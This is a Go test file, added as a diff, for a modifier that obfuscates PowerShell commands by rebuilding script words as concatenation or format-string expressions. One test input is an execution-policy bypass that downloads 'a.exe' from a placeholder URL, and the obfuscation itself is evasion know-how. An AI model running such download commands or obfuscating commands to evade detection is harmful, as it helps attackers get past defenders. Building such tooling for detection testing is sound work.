@@ -0,0 +1,223 @@
+package psconcat
+
+import (
+	"encoding/json"
+	"math/rand"
+	"regexp"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+
+	"cmdFuscator/engine/modifiers"
+	"cmdFuscator/models"
+)
+
+// ─── helpers ──────────────────────────────────────────────────────────────────
+
+func cfg(forms []string, chunks string) json.RawMessage {
+	c := Config{
+		BaseModifierConfig: models.BaseModifierConfig{
+			AppliesTo:   []string{"value", "url"},
+			Probability: "1.0",
+		},
+		Forms:  forms,
+		Chunks: chunks,
+	}
+	b, err := json.Marshal(c)
+	if err != nil {
+		panic("cfg helper: " + err.Error())
+	}
+	return b
+}
+
+var args = []models.ArgumentDefinition{
+	{Flags: []string{"-Command", "-c"}, ValueCount: 1},
+	{Flags: []string{"-ExecutionPolicy", "-EP"}, ValueCount: 1},
+}
+
+// line tokenizes a command the way the tokenizer would: words starting with
+// "-" are arguments, ones with "://" URLs and the rest values.
+func line(words ...string) []models.Token {
+	out := make([]models.Token, len(words))
+	for i, w := range words {
+		typ := models.TokenTypeValue
+		switch {
+		case i == 0:
+			typ = models.TokenTypeCommand
+		case w[0] == '-':
+			typ = models.TokenTypeArgument
+		case strings.Contains(w, "://"):
+			typ = models.TokenTypeURL
+		}
+		out[i] = models.Token{Type: typ, Value: w}
+	}
+	return out
+}
+
+func values(tokens []models.Token) []string {
+	out := make([]string, len(tokens))
+	for i, t := range tokens {
+		out[i] = t.Value
+	}
+	return out
+}
+
+func run(t *testing.T, seed int64, exe string, tokens []models.Token, c json.RawMessage) []string {
+	t.Helper()
+	mc := modifiers.Context{Rand: rand.New(rand.NewSource(seed)), Arguments: args, Executable: exe}
+	out, err := (&PowerShellConcat{}).ApplyContext(mc, tokens, c)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return values(out)
+}
+
+var (
+	concatExpr = regexp.MustCompile(`^"(&?)\(('[^']*'(?:\+'[^']*')*)\)"$`)
+	formatExpr = regexp.MustCompile(`^"(&?)\('((?:\{\d+\})+)' -f ('[^']*'(?:,'[^']*')*)\)"$`)
+)
+
+// eval evaluates an expression the modifier wrote, reporting the string it
+// builds and whether it is invoked with &.
+func eval(t *testing.T, expr string) (string, bool) {
+	t.Helper()
+	if m := concatExpr.FindStringSubmatch(expr); m != nil {
+		return strings.Join(unquote(m[2]), ""), m[1] == "&"
+	}
+	if m := formatExpr.FindStringSubmatch(expr); m != nil {
+		pieces := unquote(m[3])
+		var b strings.Builder
+		for _, ref := range strings.Split(strings.Trim(m[2], "{}"), "}{") {
+			i, _ := strconv.Atoi(ref)
+			if i >= len(pieces) {
+				t.Fatalf("%s refers to argument %d of %d", expr, i, len(pieces))
+			}
+			b.WriteString(pieces[i])
+		}
+		return b.String(), m[1] == "&"
+	}
+	t.Fatalf("%s is neither a concatenation nor a format expression", expr)
+	return "", false
+}
+
+// unquote splits a list of quoted pieces joined by + or ",".
+func unquote(list string) []string {
+	list = strings.ReplaceAll(list, "'+'", "','")
+	return strings.Split(strings.Trim(list, "'"), "','")
+}
+
+// ─── modifier interface ───────────────────────────────────────────────────────
+
+func TestName(t *testing.T) {
+	if name := (&PowerShellConcat{}).Name(); name != "PowerShellConcat" {
+		t.Errorf("Name() = %q, want %q", name, "PowerShellConcat")
+	}
+	if _, ok := modifiers.Get("PowerShellConcat"); !ok {
+		t.Error("PowerShellConcat is not registered")
+	}
+}
+
+func TestParseConfig_Invalid(t *testing.T) {
+	tests := []struct {
+		name string
+		cfg  json.RawMessage
+	}{
+		{"unknown form", cfg([]string{"concat", "base64"}, "")},
+		{"one chunk", cfg(nil, "1")},
+		{"non-numeric chunks", cfg(nil, "some")},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if _, err := (&PowerShellConcat{}).ParseConfig(nil, tt.cfg); err == nil {
+				t.Error("ParseConfig should return an error")
+			}
+		})
+	}
+}
+
+func TestIsPowerShell(t *testing.T) {
+	for exe, want := range map[string]bool{
+		"powershell":     true,
+		"pwsh":           true,
+		"PowerShell.exe": true,
+		`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`: true,
+		"/usr/bin/pwsh": true,
+		"certutil":      false,
+		"":              false,
+	} {
+		if got := IsPowerShell(exe); got != want {
+			t.Errorf("IsPowerShell(%q) = %v, want %v", exe, got, want)
+		}
+	}
+}
+
+// ─── rewriting ────────────────────────────────────────────────────────────────
+
+func TestApply_ScriptWords(t *testing.T) {
+	in := line("powershell", "-EP", "Bypass", "-Command", "iwr", "https://x/a", "-OutFile", "a.exe")
+	for seed := range int64(50) {
+		out := run(t, seed, "powershell", in, cfg(nil, "3"))
+		if !slices.Equal(out[:4], values(in[:4])) || out[6] != "-OutFile" {
+			t.Fatalf("seed %d: %q, want only the script's words rewritten", seed, out)
+		}
+		for i, invoked := range map[int]bool{4: true, 5: false, 7: false} {
+			got, amp := eval(t, out[i])
+			if got != in[i].Value || amp != invoked {
+				t.Errorf("seed %d: %s builds %q (invoked %v), want %q (invoked %v)", seed, out[i], got, amp, in[i].Value, invoked)
+			}
+		}
+	}
+}
+
+func TestApply_Forms(t *testing.T) {
+	in := line("pwsh", "-c", "Get-Process")
+	seen := map[string]bool{}
+	for seed := range int64(30) {
+		for _, form := range []string{FormConcat, FormFormat} {
+			got := run(t, seed, "pwsh", in, cfg([]string{form}, ""))[2]
+			re := map[string]*regexp.Regexp{FormConcat: concatExpr, FormFormat: formatExpr}[form]
+			if !re.MatchString(got) {
+				t.Errorf("seed %d: %s is not a %s expression", seed, got, form)
+			}
+			if s, _ := eval(t, got); s != "Get-Process" {
+				t.Errorf("seed %d: %s builds %q", seed, got, s)
+			}
+			seen[got] = true
+		}
+	}
+	if seen[`"&('{0}{1}' -f 'Get-','Process')"`] {
+		t.Error("a format expression kept its arguments in order")
+	}
+}
+
+func TestApply_LeavesAlone(t *testing.T) {
+	tests := []struct {
+		name   string
+		exe    string
+		tokens []models.Token
+	}{
+		{"not PowerShell", "certutil", line("certutil", "-Command", "Get-Process")},
+		{"no -Command", "powershell", line("powershell", "-EP", "Bypass")},
+		{"CLI argument", "powershell", line("powershell", "-EP", "Bypass", "-File", "a.ps1")},
+		{"keyword", "powershell", line("powershell", "-Command", "exit")},
+		{"variable", "powershell", line("powershell", "-Command", "$x")},
+		{"environment variable", "powershell", line("powershell", "-Command", "%COMSPEC%")},
+		{"quote", "powershell", line("powershell", "-Command", "it's")},
+		{"one character", "powershell", line("powershell", "-Command", "x")},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if out := run(t, 1, tt.exe, tt.tokens, cfg(nil, "")); !slices.Equal(out, values(tt.tokens)) {
+				t.Errorf("got %q, want the input back", out)
+			}
+		})
+	}
+}
+
+func TestApply_StopsAtSeparator(t *testing.T) {
+	in := line("powershell", "-Command", "whoami;", "Get-Process")
+	if out := run(t, 1, "powershell", in, cfg(nil, "")); !slices.Equal(out, values(in)) {
+		t.Errorf("got %q, want nothing after the separator rewritten", out)
+	}
+}